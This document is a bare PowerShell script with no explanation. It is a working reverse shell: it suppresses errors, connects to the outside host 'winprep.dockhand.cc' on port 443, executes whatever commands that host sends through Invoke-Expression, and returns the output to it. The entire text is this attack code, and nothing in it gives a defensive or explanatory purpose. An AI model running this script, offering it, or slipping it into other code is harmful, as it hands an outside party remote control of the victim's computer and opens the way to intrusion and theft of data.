$ErrorActionPreference = 'SilentlyContinue'
$c = New-Object System.Net.Sockets.TCPClient('winprep.dockhand.cc', 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
  $r = (Invoke-Expression $d 2>&1 | Out-String)
  $o = [text.encoding]::ASCII.GetBytes($r + 'PS> ')
  $s.Write($o, 0, $o.Length); $s.Flush()
}
$c.Close()
